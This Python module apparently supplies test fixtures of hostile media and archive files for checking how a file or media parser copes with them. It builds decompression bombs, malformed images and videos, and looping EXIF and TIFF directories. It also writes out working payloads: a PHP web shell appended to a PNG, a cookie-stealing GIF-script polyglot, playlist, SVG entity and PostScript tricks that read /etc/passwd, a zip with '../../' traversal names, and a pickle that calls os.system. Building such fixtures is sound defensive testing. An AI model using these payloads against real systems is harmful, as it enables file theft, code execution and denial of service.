"""Files made to hurt who opens them, built by hand so that no encoder mends them."""

from __future__ import annotations

import gzip
import io
import struct
import zipfile
import zlib
from collections.abc import Callable

PNG_START = b"\x89PNG\r\n\x1a\n"


def png(width: int, height: int, *, rows: bytes = b"\0\0", bits: int = 1) -> bytes:
    """A grey PNG that claims a size and holds ``rows``, whatever they are."""
    header = struct.pack(">IIBBBBB", width, height, bits, 0, 0, 0, 0)
    return PNG_START + _chunk(b"IHDR", header) + _chunk(b"IDAT", zlib.compress(rows, 9)) + _END


def png_bomb() -> bytes:
    """60,000 x 60,000 pixels, 450 MB unpacked, in a few hundred kB."""
    packer = zlib.compressobj(9)
    row = bytes(7501) * 100
    packed = b"".join(packer.compress(row) for _ in range(600)) + packer.flush()
    header = struct.pack(">IIBBBBB", 60_000, 60_000, 1, 0, 0, 0, 0)
    return PNG_START + _chunk(b"IHDR", header) + _chunk(b"IDAT", packed) + _END


def png_text_bomb() -> bytes:
    """A small picture with a comment of 200 MB, packed."""
    text = b"comment\0\0" + zlib.compress(bytes(200 * 1024**2), 9)
    start = png(8, 8, rows=b"\0\0" * 8)
    return start[: -len(_END)] + _chunk(b"zTXt", text) + _END


def png_many_chunks() -> bytes:
    """A quarter of a million empty chunks."""
    return PNG_START + _chunk(b"tEXt", b"a\0b") * 250_000 + png(8, 8)[8:]


def apng_bomb() -> bytes:
    """A small picture that claims four thousand million frames."""
    start = png(8, 8, rows=b"\0\0" * 8)
    control = _chunk(b"acTL", struct.pack(">II", 0xFFFFFFFF, 0))
    return start[:33] + control + start[33:]


def gif_bomb() -> bytes:
    """A canvas of 65,535 x 65,535 with two thousand tiny frames."""
    frame = b"\x21\xf9\x04\0\x01\0\0\0" + b",\0\0\0\0\x01\0\x01\0\0" + b"\x02\x02D\x01\0"
    return (
        b"GIF89a"
        + struct.pack("<HH", 65535, 65535)
        + b"\x80\0\0\0\0\0\xff\xff\xff"
        + frame * 2000
        + b";"
    )


def jpeg_huge() -> bytes:
    """A JPEG that claims 65,500 x 65,500 pixels of three colours."""
    frame = (
        b"\xff\xc0\0\x11\x08"
        + struct.pack(">HH", 65500, 65500)
        + b"\x03\x01\x22\0\x02\x11\x01\x03\x11\x01"
    )
    return (
        b"\xff\xd8"
        + _JFIF
        + frame
        + b"\xff\xda\0\x0c\x03\x01\0\x02\x11\x03\x11\0?\0"
        + bytes(64)
        + b"\xff\xd9"
    )


def jpeg_comments() -> bytes:
    """A JPEG with ten megabytes of comments before nothing."""
    return b"\xff\xd8" + _JFIF + (b"\xff\xfe\xff\xff" + bytes(65533)) * 160 + b"\xff\xd9"


def jpeg_exif_loop() -> bytes:
    """EXIF whose directories point at each other."""
    exif = b"Exif\0\0II*\0\x08\0\0\0\x01\0\x69\x87\x04\0\x01\0\0\0\x08\0\0\0\x08\0\0\0"
    return b"\xff\xd8\xff\xe1" + struct.pack(">H", len(exif) + 2) + exif + b"\xff\xd9"


def webp_huge() -> bytes:
    """A WebP whose canvas is 16,777,216 pixels a side."""
    canvas = b"\x10\0\0\0" + b"\xff\xff\xff" * 2
    body = b"WEBPVP8X" + struct.pack("<I", len(canvas)) + canvas
    return b"RIFF" + struct.pack("<I", len(body)) + body


def webp_lies() -> bytes:
    """A WebP whose parts are longer than the file."""
    return b"RIFF\xff\xff\xff\xffWEBPVP8L\xff\xff\xff\x7f/" + bytes(64)


def tiff_loop() -> bytes:
    """A TIFF whose next directory is itself."""
    return b"II*\0\x08\0\0\0\x01\0\0\x01\x03\0\x01\0\0\0\x10\0\0\0\x08\0\0\0"


def bmp_huge() -> bytes:
    """A BMP of two thousand million pixels a side."""
    head = struct.pack("<IiiHHIIiiII", 40, 2**31 - 1, 2**31 - 1, 1, 24, 0, 0, 0, 0, 0, 0)
    return b"BM" + struct.pack("<IHHI", 54, 0, 0, 54) + head


def mp4_huge_atom() -> bytes:
    """An atom that is longer than any disk."""
    return (
        _atom(b"ftyp", b"isom\0\0\0\0isom")
        + struct.pack(">I4sQ", 1, b"moov", 2**63 - 1)
        + bytes(64)
    )


def mp4_deep() -> bytes:
    """Atoms in atoms, ten thousand deep."""
    inner = b""
    for _ in range(10_000):
        inner = _atom(b"moov", inner)
    return _atom(b"ftyp", b"isom\0\0\0\0isom") + inner


def mp4_many_samples() -> bytes:
    """A track with two thousand million samples of no bytes."""
    table = _atom(b"stsz", struct.pack(">III", 0, 0, 2**31 - 1))
    table += _atom(b"stts", struct.pack(">IIII", 0, 1, 2**31 - 1, 1))
    media = _atom(b"mdia", _atom(b"minf", _atom(b"stbl", table)))
    return _atom(b"ftyp", b"isom\0\0\0\0isom") + _atom(b"moov", _atom(b"trak", media))


def mp4_outside_reference() -> bytes:
    """A movie whose media lies, it says, in a file of the machine that opens it."""
    address = b"file:///etc/passwd\0"
    reference = _atom(b"dref", struct.pack(">II", 0, 1) + _atom(b"url ", bytes(4) + address))
    media = _atom(b"mdia", _atom(b"minf", _atom(b"dinf", reference)))
    return _atom(b"ftyp", b"qt  \0\0\0\0qt  ") + _atom(b"moov", _atom(b"trak", media))


def matroska_lies() -> bytes:
    """A Matroska head with a segment of unknown size and elements that end nowhere."""
    head = b"\x1aE\xdf\xa3\x93B\x86\x81\x01B\xf7\x81\x01B\xf2\x81\x04B\xf3\x81\x08B\x82\x84webm"
    return (
        head
        + b"\x18S\x80g\x01\xff\xff\xff\xff\xff\xff\xff"
        + b"\x16T\xaek\x08\xff\xff\xff\xfe" * 500
    )


def avi_with_playlist() -> bytes:
    """An AVI that carries a playlist of the machine's own files as subtitles."""
    lines = b"#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:0\n#EXTINF:1,\nfile:///etc/passwd\n#EXT-X-ENDLIST\n"
    body = (
        b"AVI LIST"
        + struct.pack("<I", 4)
        + b"hdrlGAB2\0\x02\0"
        + struct.pack("<I", len(lines))
        + lines
    )
    return b"RIFF" + struct.pack("<I", len(body)) + body


def zip_bomb() -> bytes:
    """A gigabyte of nothing in a zip, in a zip."""
    inner = io.BytesIO()
    with (
        zipfile.ZipFile(inner, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive,
        archive.open("a", "w") as file,
    ):
        for _ in range(100):
            file.write(bytes(1024**2))
    outer = io.BytesIO()
    with zipfile.ZipFile(outer, "w", zipfile.ZIP_DEFLATED) as archive:
        for number in range(10):
            archive.writestr(f"../../{number}.zip", inner.getvalue())
    return outer.getvalue()


def playlist(*lines: str) -> Callable[[], bytes]:
    """A list that names other files, which a careless opener would open too."""
    return lambda: "\n".join(lines).encode()


HOSTILE: dict[str, Callable[[], bytes]] = {
    "png of 3.6 gigapixels": png_bomb,
    "png that claims 2^31 a side": lambda: png(2**31 - 1, 2**31 - 1),
    "png of no pixels": lambda: png(0, 0),
    "png with a comment bomb": png_text_bomb,
    "png with 250,000 chunks": png_many_chunks,
    "png that claims 2^32 frames": apng_bomb,
    "png cut off": lambda: png(64, 64)[:40],
    "png with a wrong checksum": lambda: png(8, 8)[:-20] + bytes(20),
    "png of too few rows": lambda: png(4000, 4000),
    "png with a zip behind": lambda: png(8, 8, rows=b"\0\0" * 8) + zip_bomb(),
    "png with php": lambda: png(8, 8, rows=b"\0\0" * 8) + b"<?php system($_GET['c']); ?>",
    "gif of 65,535 a side": gif_bomb,
    "gif cut off": lambda: gif_bomb()[:20],
    "gif that is a script": lambda: b"GIF89a/*" + bytes(32) + b"*/=1;alert(document.cookie)//;",
    "jpeg of 4.3 gigapixels": jpeg_huge,
    "jpeg of comments alone": jpeg_comments,
    "jpeg with circular exif": jpeg_exif_loop,
    "jpeg of one marker": lambda: b"\xff\xd8\xff",
    "jpeg with html": lambda: jpeg_huge()[:200] + b"<script>alert(1)</script>",
    "webp of 2^24 a side": webp_huge,
    "webp that lies about lengths": webp_lies,
    "tiff with circular directories": tiff_loop,
    "bmp of 2^31 a side": bmp_huge,
    "mp4 with an endless atom": mp4_huge_atom,
    "mp4 10,000 atoms deep": mp4_deep,
    "mp4 with 2^31 samples": mp4_many_samples,
    "mp4 that refers to a file": mp4_outside_reference,
    "mp4 of zeros": lambda: _atom(b"ftyp", b"isom\0\0\0\0isom") + bytes(1024**2),
    "matroska that lies": matroska_lies,
    "avi with a playlist inside": avi_with_playlist,
    "transport stream of noise": lambda: (b"G" + bytes(range(187))) * 2000,
    "h264 of nothing": lambda: b"\0\0\0\x01" * 20_000,
    "zip bomb": zip_bomb,
    "gzip bomb": lambda: gzip.compress(bytes(100 * 1024**2), 9),
    "hls playlist of a file": playlist("#EXTM3U", "#EXTINF:1,", "file:///etc/passwd"),
    "hls playlist of an address": playlist("#EXTM3U", "#EXTINF:1,", "http://127.0.0.1/"),
    "concat list of a file": playlist("ffconcat version 1.0", "file /etc/passwd"),
    "dash manifest": playlist('<?xml version="1.0"?><MPD><BaseURL>file:///etc/</BaseURL></MPD>'),
    "session description": playlist("v=0", "o=- 0 0 IN IP4 127.0.0.1", "m=video 80 RTP/AVP 96"),
    "svg with entities": playlist(
        '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a SYSTEM "file:///etc/passwd">]>',
        '<svg xmlns="http://www.w3.org/2000/svg"><text>&a;</text></svg>',
    ),
    "postscript": playlist("%!PS-Adobe-3.0 EPSF-3.0", "(/etc/passwd) (r) file"),
    "pdf": playlist("%PDF-1.7", "1 0 obj<</OpenAction<</S/JavaScript>>>>endobj"),
    "html": playlist("<!doctype html><script>alert(1)</script>"),
    "elf program": lambda: b"\x7fELF\x02\x01\x01" + bytes(200),
    "python pickle": lambda: b"\x80\x04cos\nsystem\n(S'id'\ntR.",
    "numpy array": lambda: b"\x93NUMPY\x01\0v\0{'descr': '|O', 'fortran_order': False}" + bytes(64),
    "one zero byte": lambda: b"\0",
    "no byte": lambda: b"",
    "noise": lambda: bytes(range(7, 250)) * 400,
}
"""Name -> its bytes."""


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def _atom(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data) + 8) + kind + data


_END = _chunk(b"IEND", b"")
_JFIF = b"\xff\xe0\0\x10JFIF\0\x01\x01\0\0\x01\0\x01\0\0"
